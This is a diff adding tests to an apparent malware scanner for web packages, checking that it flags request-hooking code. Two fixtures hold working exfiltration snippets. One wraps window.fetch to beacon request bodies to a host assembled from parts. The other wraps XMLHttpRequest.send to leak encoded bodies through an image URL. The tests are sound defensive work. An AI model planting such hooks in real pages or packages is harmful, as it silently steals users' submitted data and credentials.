@@ -1005,3 +1005,52 @@ module.exports = (res) => { res.end(fs.readFileSync(__dirname + '/font.woff2'));
     ).toEqual([]);
   });
 });
+
+describe("hooks on the page's own requests", () => {
+  it('window.fetch wrapped to copy request bodies to a host kept in parts', () => {
+    expect(
+      threatsOf(
+        analyzeSource({
+          'package.json': pkg(),
+          'index.js': `const tap = ['https://', 'perf.cdn-stats.example', '/t'].join('');
+const orig = window.fetch;
+window.fetch = function (url, opts) {
+  try { if (opts && opts.body) navigator.sendBeacon(tap, JSON.stringify({ u: String(url), b: opts.body })); } catch (e) {}
+  return orig.apply(this, arguments);
+};`,
+        }),
+      ),
+    ).toContain('data_exfiltration');
+  });
+  it('XMLHttpRequest.prototype.send wrapped to leak bodies through an image URL', () => {
+    expect(
+      threatsOf(
+        analyzeSource({
+          'package.json': pkg(),
+          'index.js': `const send = XMLHttpRequest.prototype.send;
+XMLHttpRequest.prototype.send = function (body) {
+  if (body) { const i = new Image(); i.src = 'https://xhr.metrics.example/c?d=' + encodeURIComponent(btoa(String(body))); }
+  return send.apply(this, arguments);
+};`,
+        }),
+      ),
+    ).toContain('data_exfiltration');
+  });
+  it('a monitoring hook that records addresses and timings, and one adding a header, stay quiet', () => {
+    expect(
+      threatsOf(
+        analyzeSource({
+          'package.json': pkg(),
+          'index.js': `const intake = 'https://rum-intake.example/v1/input';
+const orig = window.fetch;
+window.fetch = function (url, opts) {
+  const t0 = performance.now();
+  return orig.apply(this, arguments).then((res) => { navigator.sendBeacon(intake, JSON.stringify({ url: String(url), status: res.status, ms: performance.now() - t0 })); return res; });
+};
+const set = XMLHttpRequest.prototype.setRequestHeader;
+XMLHttpRequest.prototype.setRequestHeader = function (name, value) { return set.call(this, name, name === 'x-trace' ? value + ';rum' : value); };`,
+        }),
+      ),
+    ).toEqual([]);
+  });
+});
